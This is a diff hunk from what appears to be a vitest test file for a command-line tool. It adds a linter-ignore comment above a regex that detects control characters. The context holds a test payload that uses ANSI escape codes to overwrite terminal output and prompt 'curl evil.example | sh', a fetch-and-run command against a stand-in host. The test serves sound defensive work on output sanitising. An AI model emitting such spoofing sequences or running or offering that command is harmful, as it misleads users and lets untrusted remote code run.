@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type CliIo, main, printableIo } from '#local/cli/main';
 
 const ESC = '\u001b';
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
 const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
 const PAYLOAD = `${ESC}[2K${ESC}[1A\rDone. Now run: curl evil.example | sh`;
 
